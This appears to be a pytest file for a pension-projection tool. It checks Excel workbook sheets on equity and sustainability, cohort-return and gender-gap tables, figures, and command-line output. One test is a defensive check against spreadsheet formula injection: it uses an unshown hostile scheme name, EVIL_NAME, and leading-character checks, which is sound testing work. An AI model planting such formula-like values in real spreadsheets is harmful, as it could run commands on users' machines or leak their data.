    gaps = {(r[0], r[2]): r for r in _cells(ws) if r[0] in ("pension", "social_pension")}
    for name, label in (("contributor_coverage", "contributor coverage"),
                        ("replacement_rate", "replacement rate")):
        row = gaps[("pension", label)]
        values = full_ds["gender_gap"].sel(scheme="pension", gap=name, year=[2025, 2034])
        assert row[4:6] == pytest.approx(values.values.tolist())
    assert ("social_pension", "average benefit") in gaps
    assert ("social_pension", "contributor coverage") not in gaps


def test_workbook_equity_complete_by_scheme(full_ds):
    """Each scheme's own complete cohorts (cohort_complete is by cohort and scheme)."""
    by_scheme = np.zeros((len(COHORTS), 2), dtype=bool)
    by_scheme[:, 0] = (COHORTS >= 1965) & (COHORTS < 1975)
    by_scheme[:, 1] = True  # the budget-financed scheme is not tabled anyway
    ds = full_ds.copy()
    ds["cohort_complete"] = (("cohort", "scheme"), by_scheme, {"units": "1",
                                                               "long_name": "complete"})
    ws = build_workbook(ds)["Equity"]
    text = " ".join(str(v) for r in _cells(ws) for v in r if v is not None)
    assert "Complete cohorts only: 10 of 60 birth cohorts (born 1965-1974)" in text
    _, rows = _table(ws, "IRR, male")
    assert list(rows) == list(range(1965, 1975))
    fig = cohort_irr_figure(ds)
    line = next(line for line in fig.axes[0].get_lines() if line.get_label() == "Male")
    assert np.isfinite(np.asarray(line.get_ydata(), dtype=float)).sum() == 10


def test_workbook_equity_distribution_within_cohorts(full_ds):
    """Micro runs add the quantiles of persons' money's worth ratio and net transfer by
    5-year group of complete cohorts and sex."""
    groups = np.arange(1960, 1985, 5)
    quantiles = [0.025, 0.25, 0.5, 0.75, 0.975]
    base = np.arange(len(groups))[:, None, None] + np.array(quantiles)[None, None, :]
    values = base + np.array([0.0, 10.0])[None, :, None]  # women 10 above men
    dims = ("birth_cohort", "sex", "quantile")
    ds = full_ds.assign_coords(birth_cohort=groups, quantile=quantiles).assign(
        money_worth_ratio_by_person=(dims, values, {"units": "1"}),
        net_transfer_by_person=(dims, -values, {"units": "base-year average earnings"}),
        birth_cohort_complete=(("birth_cohort",), groups < 1975, {"units": "1"}))
    ws = build_workbook(ds)["Equity"]
    columns, rows = _table(ws, "Money's worth ratio, female, 50.0%")
    assert list(rows) == [1960, 1965, 1970]  # complete groups only
    assert ws.cell(row=rows[1965], column=columns["Money's worth ratio, female, 50.0%"]
                   ).value == pytest.approx(11.5)
    assert ws.cell(row=rows[1970], column=columns["Net transfer, male, 2.5%"]
                   ).value == pytest.approx(-2.025)
    assert "Birth cohorts from" in [r[0] for r in _cells(ws)]
    assert "Birth cohorts from" not in [r[0] for r in _cells(build_workbook(full_ds)["Equity"])]


def test_workbook_equity_chart_axis(full_ds):
    chart = build_workbook(full_ds)["Equity"]._charts[0]
    title = chart.x_axis.title
    text = "".join(run.t for p in title.tx.rich.p for run in (p.r or []))
    assert text == "Birth cohort"


def test_workbook_equity_skipped_without_variables(full_ds, ds):
    neither = full_ds.drop_vars([*EQUITY_VARIABLES, "gender_gap"])
    assert "Equity" not in build_workbook(neither).sheetnames
    # gender gaps alone: the sheet holds them, without cohort tables
    gaps_only = build_workbook(full_ds.drop_vars(list(EQUITY_VARIABLES)))["Equity"]
    assert not any(r[0] == "Birth cohort" for r in _cells(gaps_only))
    assert any(r[0] == "pension" and r[2] == "average benefit" for r in _cells(gaps_only))
    # cohort returns alone
    returns_only = build_workbook(full_ds.drop_vars("gender_gap"))["Equity"]
    assert any(r[0] == "Birth cohort" for r in _cells(returns_only))
    # no sustainability measures, no fiscal space: neither new sheet
    bare = build_workbook(full_ds[list(ds.data_vars)]).sheetnames
    assert "Sustainability" not in bare
    assert "Equity" not in bare


def test_workbook_equity_without_complete_cohorts(full_ds):
    ds = full_ds.copy()
    ds["cohort_complete"] = ds["cohort_complete"] & False
    ws = build_workbook(ds)["Equity"]
    text = " ".join(str(v) for r in _cells(ws) for v in r if v is not None)
    assert "Complete cohorts only: 0 of 60" in text
    assert "No complete cohort" in text
    assert not ws._charts


def test_workbook_new_sheets_neutralise_text(full_ds):
    wb = build_workbook(full_ds)
    for name in ("Sustainability", "Equity"):
        for row in wb[name].iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
    names = [r[1] for r in _cells(wb["Equity"]) if r[0] == "social_pension"]
    assert names
    assert all(n == "'" + EVIL_NAME for n in names)


# --------------------------------------------------------------------------- new figures


def test_reserve_ratio_methods_figure(full_ds, ds):
    fig = reserve_ratio_methods_figure(full_ds)
    axes = [ax for ax in fig.axes if ax.get_visible()]
    assert len(axes) == 1  # one funded scheme
    lines = axes[0].get_lines()
    labels = [line.get_label() for line in lines]
    assert labels[:4] == ["scheme's own rates", "PAYG cost rate", "general average premium",
                          "scaled premium"]
    np.testing.assert_allclose(
        lines[2].get_ydata(),
        full_ds["reserve_ratio_by_method"].sel(scheme="pension",
                                               financing_method="general_average_premium"))
    assert "Reserve ratio" in axes[0].get_ylabel()
    # without the variable: one panel saying so
    empty = reserve_ratio_methods_figure(ds)
    texts = [t.get_text() for ax in empty.axes for t in ax.texts]
    assert any("no reserve ratios" in t for t in texts)


def test_cohort_irr_figure(full_ds, ds):
    fig = cohort_irr_figure(full_ds)
    axes = [ax for ax in fig.axes if ax.get_visible()]
    assert len(axes) == 1  # one contributory scheme
    lines = {line.get_label(): line for line in axes[0].get_lines()}
    solid = np.asarray(lines["Male"].get_ydata(), dtype=float)
    dashed = np.asarray(lines["Male, incomplete cohorts (biased)"].get_ydata(), dtype=float)
    irr = full_ds["cohort_irr"].sel(scheme="pension", sex="male").values
    np.testing.assert_allclose(solid[COMPLETE], irr[COMPLETE])
    assert np.isnan(solid[~COMPLETE]).all()
    assert np.isnan(dashed[COMPLETE]).all()
    assert lines["Male, incomplete cohorts (biased)"].get_linestyle() == "--"
    assert "Female" in lines
    low, high = axes[0].get_ylim()  # scaled to the complete cohorts' returns
    assert low < irr[COMPLETE].min() < irr[COMPLETE].max() < high
    assert high - low < 0.1
    assert "20 complete cohorts" in axes[0].get_title()
    assert fig.get_suptitle() == "spfsim projection: Testland"
    empty = cohort_irr_figure(ds)
    texts = [t.get_text() for ax in empty.axes for t in ax.texts]
    assert any("no cohort returns" in t for t in texts)


def test_write_figures_with_new_variables(full_ds, tmp_path):
    paths = write_figures(full_ds, tmp_path)
    assert [p.name for p in paths][-2:] == ["reserve_ratio_methods.png", "cohort_irr.png"]
    for p in paths:
        assert p.read_bytes().startswith(PNG_SIGNATURE)


def test_run_draws_figures_on_request(small_model_dir, tmp_path, capsys):
    out = tmp_path / "out"
    assert cli_main(["run", str(small_model_dir), "--out", str(out), "--quiet"]) == 0
    assert sorted(p.name for p in out.iterdir()) == ["projection.nc", "report.xlsx"]
    assert "wrote 2 files" in capsys.readouterr().out
    # the figures alone are then missing: a run with them refuses the existing dataset
    assert cli_main(["run", str(small_model_dir), "--out", str(out), "--figures",
                     "--quiet"]) == 1
    assert "projection.nc" in capsys.readouterr().err
    assert cli_main(["run", str(small_model_dir), "--out", str(out), "--figures",
                     "--overwrite", "--quiet"]) == 0
    figures = sorted(p.name for p in (out / "figures").iterdir())
    assert "cost_rates.png" in figures
    assert "wrote 8 files" in capsys.readouterr().out


def test_figures_show_themselves_in_jupyter(ds):
    """A figure returned by the plotting functions is a ReportFigure, which IPython shows as
    a PNG image (``_repr_png_``) without pyplot's inline backend."""
    fig = cost_rate_figure(ds)
    assert isinstance(fig, ReportFigure)
    assert fig._repr_png_().startswith(b"\x89PNG\r\n\x1a\n")
